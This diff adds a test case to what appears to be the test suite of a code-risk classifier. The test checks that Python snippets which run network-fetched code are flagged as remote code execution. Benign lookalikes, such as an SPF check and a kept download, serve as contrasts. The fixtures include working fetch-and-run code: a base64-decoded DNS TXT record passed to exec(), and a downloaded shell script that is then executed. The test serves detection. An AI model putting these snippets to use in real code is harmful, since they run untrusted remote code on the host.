@@ -636,5 +636,32 @@ TEST(CoverageClasses, OneLinerReverseShellsInOtherLanguages) {
   for (const auto& c : cases) check(c);
 }
 
+// More downloads that run: DNS answers are data from the network (a TXT
+// record executed), and a response copied into a file by shutil.copyfileobj
+// is what that file holds.
+TEST(CoverageClasses, DnsAnswersAndCopiedStreamsComeFromTheNetwork) {
+  const Case cases[] = {
+      {"a TXT record executed", B,
+       "import base64, dns.resolver\nanswer = dns.resolver.resolve('cfg.example.net', 'TXT')\n"
+       "exec(base64.b64decode(b''.join(r.strings[0] for r in answer)))\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"urlopen copied into a file and run", B,
+       "import shutil, subprocess, urllib.request\n"
+       "with urllib.request.urlopen('https://example.net/tool.sh') as r, open('tool.sh', 'wb') as out:\n"
+       "    shutil.copyfileobj(r, out)\nsubprocess.call(['sh', 'tool.sh'])\n",
+       "REMOTE-CODE-EXECUTION"},
+      // Neighbours: an SPF check, an MX lookup given to ping, a download kept.
+      {"an SPF check", L,
+       "import dns.resolver\ntxt = [r.to_text() for r in dns.resolver.resolve('example.com', 'TXT')]\nprint(any('v=spf1' in t for t in txt))\n"},
+      {"a resolved address pinged", M,
+       "import dns.resolver, subprocess\nip = dns.resolver.resolve('example.com', 'A')[0].to_text()\nsubprocess.run(['ping', '-c', '1', ip])\n",
+       "RUNS-PROCESS"},
+      {"a download copied into a file", L,
+       "import shutil, urllib.request\nwith urllib.request.urlopen('https://example.com/d.csv') as r, open('d.csv', 'wb') as out:\n"
+       "    shutil.copyfileobj(r, out)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
